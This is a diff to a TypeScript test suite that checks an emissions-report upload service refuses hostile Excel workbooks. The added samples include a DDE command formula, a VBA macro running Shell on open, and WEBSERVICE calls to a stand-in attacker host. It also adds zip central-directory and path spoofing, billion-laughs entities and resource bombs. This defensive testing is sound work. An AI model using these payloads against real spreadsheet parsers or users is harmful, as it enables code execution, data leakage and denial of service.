@@ -2,7 +2,7 @@ import { spawn } from 'node:child_process';
 import { performance } from 'node:perf_hooks';
 import { EMISSION_FACTORS } from '../../src/modules/emissions/excel/factors';
 import { buildTemplate, type ActivityRow } from '../../src/modules/emissions/excel/template';
-import { editPart, makeZip, rezip, SML_TYPE } from '../fixtures/zip';
+import { editPart, makeZip, readZip, rezip, SML_TYPE, twoDirectories, unicodePathField } from '../fixtures/zip';
 import { binary, createTestApp, type TestApp } from '../support/app';
 import { spawnRegistry, type RegistryProcess } from '../support/process';
 import { activatedHolder, activatedVerifier, auth, secretariatToken, type Holder } from '../factories/identity';
@@ -24,12 +24,16 @@ const addValidation = (parts: Map<string, Buffer>, sqref: string) =>
   editPart(parts, SHEET, /<dataValidations count="(\d+)">/, `<dataValidations count="99"><dataValidation type="whole" allowBlank="1" sqref="${sqref}"><formula1>0</formula1></dataValidation>`);
 const setFormula = (parts: Map<string, Buffer>, cell: string, formula: string) =>
   editPart(parts, SHEET, new RegExp(`(<c r="${cell}"[^>]*>)<f>[^<]*</f>`), `$1<f>${formula}</f>`);
+/** The form with another quantity in C8: the sheet a reader that is fooled would read instead. */
+const otherQuantity = (form: Buffer) => rezip(form, (p) => editPart(p, SHEET, /(<c r="C8"[^>]*>)<v>1000<\/v>/, '$1<v>5000</v>'));
+const sqrefBomb = (form: Buffer) =>
+  rezip(form, (p) => editPart(p, SHEET, '</worksheet>', `<dataValidations count="1"><dataValidation type="whole" sqref="${Array.from({ length: 80 }, () => 'x!A1:Z20000').join(' ')}"><formula1>0</formula1></dataValidation></dataValidations></worksheet>`));
 
 /**
  * Hostile workbooks, each the designated form (a valid, filled report) with one thing added: what
  * the guard must refuse, with the code and the part it names.
  */
-type Hostile = { name: string; code: string; part?: string | RegExp; reason?: RegExp; build: (form: Buffer) => Buffer };
+type Hostile = { name: string; code: string; part?: string | RegExp; reason?: RegExp; build: (form: Buffer) => Buffer; maxMs?: number };
 const HOSTILE: Hostile[] = [
   {
     name: 'a VBA project under a renamed part (xl/vba.dat, vbaProject relationship, content type disguised)',
@@ -182,6 +186,77 @@ const HOSTILE: Hostile[] = [
     build: (form) => rezip(form, (p) => p.set('xl\\..\\..\\evil.xml', Buffer.from('<x/>'))),
   },
   {
+    name: 'two central directories (JSZip, unzip and Python read a second one, with another sheet)',
+    code: 'FILE_ACTIVE_CONTENT',
+    part: 'zip',
+    reason: /central directory does not end/,
+    build: (form) => twoDirectories(readZip(form), readZip(otherQuantity(form))),
+  },
+  {
+    name: 'an image entry whose Unicode-path field names it the main sheet for JSZip',
+    code: 'FILE_ACTIVE_CONTENT',
+    part: 'xl/media/image1.png',
+    reason: /Unicode path/,
+    build: (form) => {
+      const typed = rezip(form, (p) => addType(p, '<Default Extension="png" ContentType="image/png"/>'));
+      const evilSheet = readZip(otherQuantity(form)).find((e) => e.name === SHEET)!.data;
+      return makeZip([...readZip(typed), { name: 'xl/media/image1.png', data: evilSheet, extra: unicodePathField('xl/media/image1.png', SHEET) }]);
+    },
+  },
+  {
+    name: 'a DDE formula hidden in CDATA (F8)',
+    code: 'FILE_ACTIVE_CONTENT',
+    part: SHEET,
+    reason: /CDATA/,
+    build: (form) => rezip(form, (p) => setFormula(p, 'F8', "<![CDATA[cmd|' /C calc'!A0]]>")),
+  },
+  {
+    name: 'a WEBSERVICE validation formula split by an XML comment',
+    code: 'FILE_ACTIVE_CONTENT',
+    part: SHEET,
+    reason: /XML comment/,
+    build: (form) => rezip(form, (p) => editPart(p, SHEET, /<dataValidations count="(\d+)">/, '<dataValidations count="99"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE<!---->("http://evil.example/")</formula1></dataValidation>')),
+  },
+  {
+    name: 'entity declarations (billion laughs) in xl/styles.xml',
+    code: 'FILE_ACTIVE_CONTENT',
+    part: 'xl/styles.xml',
+    reason: /DOCTYPE/,
+    build: (form) => rezip(form, (p) => editPart(p, 'xl/styles.xml', '<styleSheet', '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><styleSheet')),
+  },
+  {
+    name: 'a cell formula under a prefix bound to the main namespace (<xm:f> at H90)',
+    code: 'FILE_ACTIVE_CONTENT',
+    part: SHEET,
+    reason: /H90/,
+    build: (form) =>
+      rezip(form, (p) => {
+        editPart(p, SHEET, /<worksheet /, `<worksheet xmlns:xm="${NS}/spreadsheetml/2006/main" `);
+        editPart(p, SHEET, '</sheetData>', '<row r="90"><xm:c r="H90"><xm:f>SUM(1,2)</xm:f></xm:c></row></sheetData>');
+      }),
+  },
+  {
+    name: 'a table column formula (outside the form\'s own formula cells)',
+    code: 'FILE_ACTIVE_CONTENT',
+    part: 'xl/tables/table1.xml',
+    reason: /formula outside the designated form/,
+    build: (form) =>
+      rezip(form, (p) => {
+        p.set('xl/tables/table1.xml', Buffer.from(`<table xmlns="${NS}/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="H1:H3"><tableColumns count="1"><tableColumn id="1" name="c"><calculatedColumnFormula>SUM(1,2)</calculatedColumnFormula></tableColumn></tableColumns></table>`));
+        addType(p, `<Override PartName="/xl/tables/table1.xml" ContentType="${SML_TYPE}.table+xml"/>`);
+      }),
+  },
+  {
+    name: '100,000 cell formats in xl/styles.xml (Excel allows 65,490)',
+    code: 'FILE_TOO_COMPLEX',
+    part: 'xl/styles.xml',
+    reason: /cellXfs/,
+    build: (form) =>
+      rezip(form, (p) =>
+        editPart(p, 'xl/styles.xml', /<cellXfs count="\d+">/, `<cellXfs count="100000">${Array.from({ length: 100_000 }, (_, i) => `<xf numFmtId="${i % 50}" fontId="0" fillId="0" borderId="0" applyNumberFormat="${i}"/>`).join('')}`),
+      ),
+  },
+  {
     name: 'an entry whose CRC does not match',
     code: 'FILE_ACTIVE_CONTENT',
     part: 'xl/styles.xml',
@@ -203,6 +278,13 @@ const SLOW: Hostile[] = [
     code: 'FILE_TOO_COMPLEX',
     reason: /ruleCells/,
     build: (form) => rezip(form, (p) => addValidation(p, Array.from({ length: 456 }, () => 'A1:A9999').join(' '))),
+  },
+  {
+    name: "80 sheet-qualified validation ranges of x!A1:Z20000 (11 KB; held the file worker for its full 10 s limit)",
+    code: 'FILE_TOO_COMPLEX',
+    reason: /ruleCells/,
+    maxMs: 1_000,
+    build: sqrefBomb,
   },
   {
     name: '200,000 shared strings',
@@ -345,7 +427,7 @@ describe('uploads: hostile files are refused, nothing is stored, the registry ke
     expect(JSON.stringify(res.body.details)).toMatch(h.reason!);
     expect(polls).toBeGreaterThan(0);
     expect(slowest).toBeLessThan(200);
-    expect(ms).toBeLessThan(5_000);
+    expect(ms).toBeLessThan(h.maxMs ?? 5_000);
     figures.push(`${name} (${(file.length / 1024).toFixed(0)} KiB): refused in ${ms.toFixed(0)} ms, /health at most ${slowest.toFixed(0)} ms over ${polls} polls`);
     expect(await stored(reports.base_year)).toBe(0);
   });
@@ -376,6 +458,22 @@ describe('uploads: hostile files are refused, nothing is stored, the registry ke
     expect([scheme.status, scheme.body.code, scheme.body.details.reason]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'relationship target is not a part']);
     expect(await stored(reports.adjustment_year)).toBe(0);
     // an attachment workbook may hold ordinary formulas of its own
+    // the second probe's attachments: a macro workbook behind a second central directory, formulas in a table and a chart
+    const cfbView = readZip(form).map((e) => (e.name === 'docProps/core.xml' ? { name: 'xl/vbaProject.bin', data: Buffer.concat([CFB, Buffer.from('Sub Workbook_Open()\nShell "calc"\nEnd Sub')]) } : e));
+    const twoCd = await upload(holder.a.token!, reports.adjustment_year, twoDirectories(readZip(form), cfbView), 'data.xlsx', 'attachments');
+    expect([twoCd.status, twoCd.body.code, twoCd.body.details.part]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'zip']);
+    const withPart = (name: string, type: string, xml: string) =>
+      rezip(form, (p) => {
+        p.set(name, Buffer.from(xml));
+        addType(p, `<Override PartName="/${name}" ContentType="${type}"/>`);
+      });
+    const tableFormula = withPart('xl/tables/table1.xml', `${SML_TYPE}.table+xml`, `<table xmlns="${NS}/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="H1:H3"><tableColumns count="1"><tableColumn id="1" name="c"><calculatedColumnFormula>WEBSERVICE("http://evil.example/")</calculatedColumnFormula></tableColumn></tableColumns></table>`);
+    const table = await upload(holder.a.token!, reports.adjustment_year, tableFormula, 'table.xlsx', 'attachments');
+    expect([table.status, table.body.code, table.body.details.part, table.body.details.reason]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'xl/tables/table1.xml', 'function WEBSERVICE not allowed']);
+    const chartFormula = withPart('xl/charts/chart1.xml', 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml', `<c:chartSpace xmlns:c="${NS}/drawingml/2006/chart"><c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:f>WEBSERVICE("http://evil.example/")</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>`);
+    const chart = await upload(holder.a.token!, reports.adjustment_year, chartFormula, 'chart.xlsx', 'attachments');
+    expect([chart.status, chart.body.code, chart.body.details.part]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'xl/charts/chart1.xml']);
+    expect(await stored(reports.adjustment_year)).toBe(0);
     const sums = await upload(holder.a.token!, reports.adjustment_year, rezip(form, (p) => editPart(p, SHEET, '</row>', '<c r="G1"><f>SUM(C8:C9)*ROUND(1.5,0)</f></c></row>')), 'sums.xlsx', 'attachments');
     expect(sums.status).toBe(201);
     expect(await stored(reports.adjustment_year)).toBe(1);
